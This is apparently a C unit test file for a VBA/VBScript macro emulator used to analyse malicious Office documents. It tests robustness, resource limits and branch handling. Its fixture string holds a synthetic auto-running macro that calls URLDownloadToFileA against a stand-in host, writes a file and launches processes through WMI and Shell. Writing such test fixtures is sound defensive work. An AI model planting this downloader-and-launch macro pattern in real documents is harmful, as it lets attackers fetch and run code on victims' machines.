/* test_hostile.c - odd, cut, bomb-like source; memory that fails; real macros. */
#include "vb_dump.h"

#include "base/mem.h"
#include "support/shared.h"

#include <stdlib.h>
#include <time.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

static const char all_sorts[] =
        "Attribute VB_Name = \"ThisDocument\"\n"
        "#If VBA7 Then\nPrivate Declare PtrSafe Function dl Lib \"urlmon\" Alias "
        "\"URLDownloadToFileA\" (ByVal a As LongPtr, ByVal u As String) As Long\n#End If\n"
        "Private Type T\n  a As String\nEnd Type\nEnum E\n  One = 1\n  Two\nEnd Enum\n"
        "Const K = 5, L As String = \"x\"\n"
        "Sub AutoOpen()\n"
        "  Dim i As Integer, b() As Byte, c As New Collection, r As T\n"
        "  On Error GoTo bad\n"
        "  ReDim Preserve b(3)\n"
        "  b(1) = 65: r.a = \"q\"\n"
        "  For i = 1 To 3 Step 1: s = s & Chr$(64 + i) & _\n    \"x\": Next i\n"
        "  For Each v In Array(1, \"a\", 2.5): c.Add v, \"k\" & v: Next\n"
        "  Do While Len(s) < 9: s = s & Mid(\"abc\", 2, 1): Loop\n"
        "  Select Case Len(s)\n  Case 1 To 5, Is > 100: x = 1\n  Case Else: x = 2\n  End Select\n"
        "  With CreateObject(\"ADODB.Stream\")\n    .Open: .Write b: .SaveToFile \"f\", 2\n  End "
        "With\n"
        "  If Rnd > 0.5 Then\n    y = 1\n  ElseIf x = 2 Then\n    y = 2\n  Else\n    y = 3\n  End "
        "If\n"
        "  Open \"a\" For Output As #1: Print #1, s; y: Close #1\n"
        "  Set d = CreateObject(\"Scripting.Dictionary\"): d(\"a\") = 1: d.Add \"b\", 2\n"
        "  Set re = CreateObject(\"VBScript.RegExp\"): re.Pattern = \"(x)\": z = re.Replace(s, "
        "\"$1y\")\n"
        "  dl 0, \"http://a.example/\" & Replace(StrReverse(\"cba\"), \"b\", Split(\"1,2\", "
        "\",\")(1))\n"
        "  GetObject(\"winmgmts:Win32_Process\").Create UserForm1.T.Text & s, Null, Null, p\n"
        "  Execute \"q = \"\"w\"\"\"\n"
        "  GoTo out\nbad:\n  Resume Next\nout:\n  Shell s Like \"A*\" & &HFF & #1/1/2020#, 0\n"
        "  Mid(s, 1, 1) = \"z\"\nEnd Sub\n"
        "Function f(ByVal n, Optional m = 2, ParamArray rest())\n  f = f(n - 1)\nEnd Function\n"
        "Property Get P() As String\n  P = L & K\nEnd Property\n";

static enum hn_status run(struct vb_dump *dump, enum script_language language, struct hn_text text,
        const struct script_limits *limits)
{
    struct script_part part = { .name = HN_TEXT_INIT("ThisDocument"), .text = text };

    *dump = (struct vb_dump){ .store_count = 1 };
    dump->stores[0].name = HN_TEXT("UserForm1.T.Text");
    dump->stores[0].value = HN_TEXT("cmd ");
    return vb_dump_run(dump, language, &part, 1, limits);
}

/* Every prefix ends well, in both languages, within its budget. */
static void every_truncation_ends(void **state)
{
    struct vb_dump dump;

    (void)state;
    for (size_t len = 0; len < sizeof all_sorts; len++) {
        char *cut = hn_malloc(len + 1); /* so that the sanitizer sees the end */

        assert_non_null(cut);
        (void)memcpy(cut, all_sorts, len);
        assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_of(cut, len), NULL), HN_OK);
        assert_int_equal(dump.stop, SCRIPT_STOP_NONE);
        hn_buf_deinit(&dump.lines);
        assert_int_equal(run(&dump, SCRIPT_VBSCRIPT, hn_text_of(cut, len), NULL), HN_OK);
        hn_buf_deinit(&dump.lines);
        hn_free(cut);
    }
}

/* Whichever allocation fails, the evaluation ends, says so, and leaks nothing. */
static void every_allocation_may_fail(void **state)
{
    struct vb_dump dump;
    uint64_t count;

    (void)state;
    hn_mem_fail_from(1u << 30);
    assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_cstr(all_sorts), NULL), HN_OK);
    count = (1u << 30) - hn_mem_fail_left();
    hn_mem_fail_from(0);
    hn_buf_deinit(&dump.lines);
    assert_true(count > 20);
    for (uint64_t n = 1; n <= count; n++) {
        enum hn_status status;

        hn_mem_fail_from(n);
        status = run(&dump, SCRIPT_VBA, hn_text_cstr(all_sorts), NULL);
        hn_mem_fail_from(0);
        assert_true(status == HN_OK || status == HN_NOMEM);
        hn_buf_deinit(&dump.lines);
    }
}

/* Each limit stops, and what was learned before is told. */
static void limits_hold(void **state)
{
    static const char endless[] = "Sub AutoOpen()\nShell \"first\"\nDo\nx = x & \"y\"\nGoTo a\na: "
                                  "b = x & x\nLoop\nEnd Sub\n";
    struct script_limits limits = script_limits_default;
    struct vb_dump dump;

    (void)state;
    for (uint64_t steps = 1; steps < 3000; steps += 37) {
        limits.steps_max = steps;
        assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_cstr(all_sorts), &limits), HN_OK);
        assert_true(dump.steps <= steps);
        hn_buf_deinit(&dump.lines);
    }
    limits = script_limits_default;
    limits.steps_max = 20000;
    assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_cstr(endless), &limits), HN_OK);
    assert_true(
            hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=first"), 0) != SIZE_MAX);
    hn_buf_deinit(&dump.lines);
    limits = script_limits_default;
    limits.bytes_max = 1 << 20;
    assert_int_equal(run(&dump, SCRIPT_VBA,
                             HN_TEXT("Sub AutoOpen()\nShell \"first\"\ns = \"0123456789\"\n"
                                     "For i = 1 To 99\ns = s & s: t = Right(s, 1) & s\nb = "
                                     "Len(Replace(t, \"1\", \"2\"))\nNext\nEnd Sub\n"),
                             &limits),
            HN_OK);
    assert_true(dump.stop == SCRIPT_STOP_BYTES || dump.stop == SCRIPT_STOP_NONE);
    assert_true(dump.bytes <= limits.bytes_max);
    assert_true(
            hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=first"), 0) != SIZE_MAX);
    hn_buf_deinit(&dump.lines);
}

static void repeat(struct hn_buf *out, const char *piece, unsigned count)
{
    for (unsigned i = 0; i < count; i++)
        hn_buf_add_cstr(out, piece);
}

/* Nesting without end is cut; chains without end are not nesting. */
static void nesting_is_limited(void **state)
{
    static const char *const pieces[][3] = { { "x = ", "(", ")" }, { "x = ", "-", "" },
        { "x = ", "f(", ")" }, { "x = ", "Not ", "" }, { "x = a", "(1)", "" },
        { "x = a", ".b", "" }, { "", "If a Then\n", "End If\n" },
        { "", "For i = 1 To 2\n", "Next\n" }, { "", "With a\n", "End With\n" },
        { "", "If a Then ", "" } };
    struct vb_dump dump;

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(pieces); i++) {
        struct hn_buf text = { 0 };

        hn_buf_add_lit(&text, "Sub AutoOpen()\nShell \"first\"\n");
        hn_buf_add_cstr(&text, pieces[i][0]);
        repeat(&text, pieces[i][1], 20000);
        hn_buf_add_lit(&text, "1");
        repeat(&text, pieces[i][2], 20000);
        hn_buf_add_lit(&text, "\nEnd Sub\nSub AutoClose()\nShell \"last\"\nEnd Sub\n");
        assert_int_equal(run(&dump, SCRIPT_VBA, hn_buf_text(&text), NULL), HN_OK);
        assert_true(hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=first"), 0) !=
                    SIZE_MAX);
        assert_true(
                hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=last"), 0) != SIZE_MAX);
        hn_buf_deinit(&dump.lines);
        hn_buf_deinit(&text);
    }
}

/* A text of 100,000 characters made one by one, and read so, takes work in proportion. */
static void growing_texts_are_linear(void **state)
{
    static const char source[] =
            "Sub AutoOpen()\nFor i = 1 To 40000\ns = s & Chr(65 + i Mod 26)\nNext\n"
            "For i = 1 To Len(s)\nIf Mid(s, i, 1) = \"B\" Then n = n + 1\nNext\n"
            "Shell n & \" \" & Len(s) & Right(s, 3)\nEnd Sub\n";
    struct vb_dump dump;
    clock_t start = clock();

    (void)state;
    assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_cstr(source), NULL), HN_OK);
    assert_true(hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=1539 40000KLM"), 0) !=
                SIZE_MAX);
    assert_true(clock() - start < 10 * CLOCKS_PER_SEC); /* quadratic ways take minutes */
    assert_true(dump.bytes < (size_t)40 << 20);
    hn_buf_deinit(&dump.lines);
}

/* Each unknown branch starts from the same values; the way taken last is what remains. */
static void unknown_branches_do_not_mix(void **state)
{
    static const char source[] =
            "Sub AutoOpen()\ns = \"0\"\nFor i = 1 To 3\nIf Rnd > 1 Then\ns = s & \"a\"\n"
            "ElseIf Rnd > 2 Then\ns = s & \"b\"\nElse\ns = s & \"c\"\nEnd If\nNext\nShell s\n"
            "If Rnd > 1 Then t = \"only\"\nShell \"t\" & t\nEnd Sub\n";
    struct vb_dump dump;

    (void)state;
    assert_int_equal(run(&dump, SCRIPT_VBA, hn_text_cstr(source), NULL), HN_OK);
    assert_true(
            hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=0ccc\n"), 0) != SIZE_MAX);
    assert_true(
            hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("CommandLine=tonly\n"), 0) != SIZE_MAX);
    hn_buf_deinit(&dump.lines);
}

/* The modules beside the documents do nothing but show messages; none of them is ill understood. */
static void real_macros_claim_nothing(void **state)
{
    static const char *const names[] = { "data/documents/poi/test-data_document_SimpleMacro.vba",
        "data/documents/poi/test-data_spreadsheet_SimpleMacro.vba",
        "data/documents/poi/test-data_slideshow_SimpleMacro.vba",
        "data/documents/poi/test-data_diagram_SimpleMacro.vba" };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(names); i++) {
        char *path = shared_path_or_skip(names[i]);
        struct hn_bytes bytes = shared_read(path);
        struct vb_dump dump;

        assert_int_equal(run(&dump, SCRIPT_VBA, hn_bytes_as_text(bytes), NULL), HN_OK);
        assert_int_equal(dump.stop, SCRIPT_STOP_NONE);
        assert_true(hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("process "), 0) == SIZE_MAX);
        assert_true(hn_text_find(hn_buf_text(&dump.lines), HN_TEXT("note syntax"), 0) == SIZE_MAX);
        hn_buf_deinit(&dump.lines);
        shared_free(bytes);
        free(path);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_truncation_ends),
        cmocka_unit_test(every_allocation_may_fail),
        cmocka_unit_test(limits_hold),
        cmocka_unit_test(nesting_is_limited),
        cmocka_unit_test(growing_texts_are_linear),
        cmocka_unit_test(unknown_branches_do_not_mix),
        cmocka_unit_test(real_macros_claim_nothing),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
